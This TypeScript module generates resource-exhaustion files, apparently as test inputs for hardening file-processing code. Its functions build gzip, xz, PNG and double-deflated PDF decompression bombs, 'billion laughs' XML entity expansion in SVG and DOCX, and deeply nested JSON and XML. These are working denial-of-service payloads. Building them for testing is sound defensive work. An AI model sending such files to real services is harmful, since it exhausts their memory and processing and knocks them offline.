/** Files of other kinds that are small and want to become large. */
import { spawnSync } from 'node:child_process'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { zipOf } from './zip-bombs.ts'

const MB = 1024 * 1024

/** Members of zeros one behind the other: RFC 1952 2.2 makes one file of them. */
export function gzipBomb(megabytes: number): Buffer {
  const member = gzipSync(Buffer.alloc(32 * MB), { level: 9 })
  return Buffer.concat(Array.from({ length: Math.ceil(megabytes / 32) }, () => member))
}

/** Null where there is no `xz`. */
export function xzBomb(megabytes: number): Buffer | null {
  const member = spawnSync('xz', ['-9', '-c'], { input: Buffer.alloc(64 * MB), maxBuffer: 64 * MB })
  if (member.status !== 0) return null
  return Buffer.concat(Array.from({ length: Math.ceil(megabytes / 64) }, () => member.stdout))
}

/** Black, one bit a pixel: 20,000 a side are 400 megapixels in 49 KB. */
export function pngBomb(side: number): Buffer {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const whole = Buffer.alloc(body.length + 8)
    whole.writeUInt32BE(data.length, 0)
    body.copy(whole, 4)
    whole.writeUInt32BE(crc32(body), body.length + 4)
    return whole
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/**
 * A page whose content, and an object stream (ISO 32000-1 7.5.7) which a reader must open to know what is in it, are deflated twice.
 * @param objects how many such object streams
 */
export function pdfBomb(megabytes: number, objects: number): Buffer {
  const twice = deflateSync(deflateSync(Buffer.alloc(megabytes * MB, 0x20), { level: 9 }), { level: 9 })
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n')]
  const offsets: number[] = []
  const add = (dictionary: string, stream?: Buffer) => {
    offsets.push(parts.reduce((sum, { length }) => sum + length, 0))
    parts.push(Buffer.from(`${offsets.length} 0 obj\n${dictionary}\n`))
    if (stream !== undefined) parts.push(Buffer.from('stream\n'), stream, Buffer.from('\nendstream\n'))
    parts.push(Buffer.from('endobj\n'))
  }
  const filters = `/Filter [/FlateDecode /FlateDecode] /Length ${twice.length}`
  add('<< /Type /Catalog /Pages 2 0 R >>')
  add('<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
  add('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>')
  add(`<< ${filters} >>`, twice)
  for (let at = 0; at < objects; at += 1) add(`<< /Type /ObjStm /N 1 /First 8 ${filters} >>`, twice)
  const startsAt = parts.reduce((sum, { length }) => sum + length, 0)
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = offsets.length + 1
  parts.push(
    Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${startsAt}\n%%EOF\n`),
  )
  return Buffer.concat(parts)
}

/** Ten entities of ten of the one before each: 3 GB of "lol" (Bryan Sullivan, "XML Denial of Service Attacks and Defenses", 2009). */
function laughs(root: string, inside: string): string {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`)
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n<!ENTITY lol "lol">\n${entities.join('\n')}\n]>\n${inside}`
}

export function laughingSvg(): Buffer {
  return Buffer.from(laughs('svg', '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&lol9;</text></svg>\n'))
}

export function laughingDocx(): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument'
  const words =
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
  return zipOf(
    Object.entries({
      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
      '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relation}" Target="word/document.xml"/></Relationships>`,
      'word/document.xml': laughs('w:document', words),
    }).map(([name, content]) => ({ name, content: Buffer.from(content) })),
  )
}

export function deepJson(depth: number): Buffer {
  return Buffer.from('['.repeat(depth) + ']'.repeat(depth))
}

export function deepXml(depth: number): Buffer {
  return Buffer.from(`<?xml version="1.0"?>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`)
}
